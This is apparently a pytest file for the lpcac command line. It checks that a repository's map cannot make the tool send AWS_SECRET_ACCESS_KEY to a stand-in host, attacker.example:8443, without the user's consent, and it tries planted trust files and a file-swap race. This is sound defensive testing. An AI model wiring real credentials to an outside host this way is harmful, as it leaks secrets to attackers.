"""A map sends a secret only where the user agreed to; what a stranger's branch says reaches nobody."""

from __future__ import annotations

import contextlib
import os
import pty
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from lpcac.core.errors import RefusedError
from lpcac.workspace.trust import read_trust

if TYPE_CHECKING:
    from tests.integration.conftest import CommandLine

REPO = "apiVersion: logpoint-cac/v1\nkind: Repo\nmetadata: {name: r}\nspec: {paths: [{path: /a, retention_days: 1}]}\n"
ORIGIN = "https://attacker.example:8443"


class Proxy:
    """What the command line would have to go through to reach any address; it lets nothing through."""

    def __init__(self) -> None:
        self.asked_for: list[str] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"
        self._thread = threading.Thread(target=self._answer, daemon=True)
        self._thread.start()

    def _answer(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            with connection:
                self.asked_for.append(connection.recv(1000).split(b" ")[1].decode())
                connection.sendall(b"HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n")

    def stop(self) -> None:
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        self._thread.join()


@pytest.fixture
def proxy() -> Iterator[Proxy]:
    found = Proxy()
    yield found
    found.stop()


class Branch:
    """A stranger's branch, whose map has a Director of the stranger's."""

    def __init__(self, folder: Path, lpcac: CommandLine, proxy: Proxy) -> None:
        self.folder = folder
        self.config = folder.parent / "config"
        self._lpcac = lpcac
        self.map = folder / "lpcac.yaml"
        (folder / "c").mkdir(parents=True)
        (folder / "c" / "r.yaml").write_text(REPO)
        self.say(f"{{url: '{ORIGIN}/api', token_env: AWS_SECRET_ACCESS_KEY}}")
        lpcac.set(
            AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI-K7MDENG",
            HTTPS_PROXY=proxy.url,
            XDG_CONFIG_HOME=str(self.config),
            NO_PROXY=None,
        )

    def say(self, director: str) -> None:
        self.map.write_text(
            "apiVersion: logpoint-cac/v1\nkind: DirectoryMap\n"
            f"directors:\n  main: {director}\n"
            "clients:\n  - {name: c, path: c, director: main, pool: p, logpoints: '*'}\n"
        )

    def run(self, command: str, *more: str) -> tuple[int, str]:
        ended = self._lpcac(command, "--map", self.map, *more)
        return ended.code, ended.err

    @property
    def trust_file(self) -> Path:
        return self.config / "lpcac" / "trusted-directors"


@pytest.fixture
def branch(tmp_path: Path, lpcac: CommandLine, proxy: Proxy) -> Branch:
    return Branch(tmp_path / "checkout", lpcac, proxy)


PAIR = f"{ORIGIN}=AWS_SECRET_ACCESS_KEY"


@pytest.mark.parametrize("command", ["plan", "apply", "drift", "sync", "inventory"])
def test_a_director_that_nobody_trusted_is_not_contacted(branch: Branch, proxy: Proxy, command: str) -> None:
    code, said = branch.run(command)
    assert (code, proxy.asked_for) == (4, [])
    assert f"--trust-director {PAIR}" in said


def test_a_pair_on_the_command_line_is_trusted(branch: Branch, proxy: Proxy) -> None:
    assert branch.run("plan", "--trust-director", PAIR)[0] == 1
    assert set(proxy.asked_for) == {"attacker.example:8443"}


@pytest.mark.parametrize(
    "other",
    [
        "https://attacker.example=AWS_SECRET_ACCESS_KEY",
        "https://attacker.example:8443=DIRECTOR_TOKEN",
        "https://attacker.example.com:8443=AWS_SECRET_ACCESS_KEY",
    ],
)
def test_another_host_port_or_variable_is_another_pair(branch: Branch, proxy: Proxy, other: str) -> None:
    assert branch.run("plan", "--trust-director", other)[0] == 4
    assert proxy.asked_for == []


@pytest.mark.parametrize(
    "pair", ["https://a.example", "a.example=TOKEN", "https://a.example/x=TOKEN", "https://a.example=GITHUB_TOKEN", "="]
)
def test_what_is_no_pair_is_a_mistake_of_the_command_line(branch: Branch, pair: str) -> None:
    code, said = branch.run("plan", "--trust-director", pair)
    assert code == 64
    assert "ORIGIN=VARIABLE" in said


def test_trust_is_written_into_the_users_folder_and_believed_afterwards(branch: Branch, proxy: Proxy) -> None:
    code, said = branch.run("trust", "--auto-approve")
    assert code == 0
    assert f"{ORIGIN}: send it the value of AWS_SECRET_ACCESS_KEY" in said
    assert branch.trust_file.read_text() == f"{PAIR}\n"
    assert not branch.trust_file.stat().st_mode & 0o077
    assert branch.run("plan")[0] == 1
    assert set(proxy.asked_for) == {"attacker.example:8443"}


def test_trust_without_anybody_to_ask_writes_nothing(branch: Branch) -> None:
    assert branch.run("trust")[0] == 4
    assert not branch.trust_file.exists()


def test_a_trust_file_in_the_repository_is_not_believed(branch: Branch, lpcac: CommandLine, proxy: Proxy) -> None:
    (branch.folder / ".git").mkdir()
    config = branch.folder / "c" / ".config"
    (config / "lpcac").mkdir(parents=True)
    (config / "lpcac" / "trusted-directors").write_text(f"{PAIR}\n")
    lpcac.set(XDG_CONFIG_HOME=str(config))
    code, said = branch.run("plan")
    assert (code, proxy.asked_for) == (4, [])
    assert "is in the map's repository" in said


def test_a_trust_file_that_others_may_write_is_not_believed(branch: Branch, proxy: Proxy) -> None:
    branch.run("trust", "--auto-approve")
    branch.trust_file.chmod(0o666)
    code, said = branch.run("plan")
    assert (code, proxy.asked_for) == (4, [])
    assert "may be written by others" in said


@pytest.mark.parametrize("number", [1, 2, 3])
def test_a_file_that_takes_the_trust_files_place_after_a_look_at_it_is_not_believed(
    number: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file, planted = tmp_path / "trusted-directors", tmp_path / "planted"
    file.write_text("")
    file.chmod(0o600)
    planted.write_text(f"{PAIR}\n")
    planted.chmod(0o666)
    looks = iter(range(1, 10))

    def swapping(look: Callable[..., os.stat_result]) -> Callable[..., os.stat_result]:
        def looked(what: object, **options: object) -> os.stat_result:
            found = look(what, **options)
            if (what == file or isinstance(what, int)) and next(looks) == number:
                os.replace(planted, file)
            return found

        return looked

    monkeypatch.setattr(os, "stat", swapping(os.stat))
    monkeypatch.setattr(os, "fstat", swapping(os.fstat))
    with contextlib.suppress(RefusedError):
        assert read_trust(file, tmp_path / "elsewhere").consents == frozenset()


def test_the_director_and_token_of_the_environment_are_trusted(
    branch: Branch, lpcac: CommandLine, proxy: Proxy
) -> None:
    branch.say(f"{{url: '{ORIGIN}/api', token_env: DIRECTOR_TOKEN}}")
    lpcac.set(DIRECTOR_URL=ORIGIN, DIRECTOR_TOKEN="a-token-of-mine")
    assert branch.run("plan")[0] == 1
    assert set(proxy.asked_for) == {"attacker.example:8443"}
    proxy.asked_for.clear()
    lpcac.set(DIRECTOR_URL="https://director.example")
    assert branch.run("plan")[0] == 4
    assert proxy.asked_for == []


def test_certificates_of_the_map_need_the_same_consent(branch: Branch, proxy: Proxy) -> None:
    branch.say(f"{{url: '{ORIGIN}', token_env: AWS_SECRET_ACCESS_KEY, ca_bundle: ca.pem}}")
    (branch.folder / "ca.pem").write_text("the stranger's")
    code, said = branch.run("plan", "--trust-director", PAIR)
    assert (code, proxy.asked_for) == (4, [])
    assert f"{ORIGIN}=ca_bundle:" in said
    branch.run("trust", "--auto-approve")
    assert branch.run("plan")[0] == 1
    (branch.folder / "ca.pem").write_text("another stranger's")
    assert branch.run("plan")[0] == 4


@pytest.mark.parametrize("name", ["GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "RUNNER_X", "INPUT_GITHUB_TOKEN"])
@pytest.mark.parametrize("key", ["token_env", "secret_key_env"])
def test_variables_of_github_are_no_directors_secrets(branch: Branch, name: str, key: str) -> None:
    other = "secret_key_env" if key == "token_env" else "token_env"
    branch.say(f"{{url: '{ORIGIN}', {key}: {name}, {other}: MINE}}")
    code, said = branch.run("plan")
    assert code == 3
    assert "belong to GitHub" in said


@pytest.mark.parametrize("answer", ["yes", "no"])
def test_on_a_terminal_the_first_use_asks(branch: Branch, proxy: Proxy, answer: str) -> None:
    ours, theirs = pty.openpty()
    try:
        command = [sys.executable, "-m", "lpcac.main", "plan", "--map", str(branch.map)]
        os.write(ours, f"{answer}\n".encode())
        ended = subprocess.run(command, stdin=theirs, capture_output=True, text=True, timeout=60, check=False)
    finally:
        os.close(ours)
        os.close(theirs)
    assert f"{ORIGIN}: send it the value of AWS_SECRET_ACCESS_KEY" in ended.stderr
    assert ended.returncode == (1 if answer == "yes" else 4)
    assert bool(proxy.asked_for) == branch.trust_file.exists() == (answer == "yes")
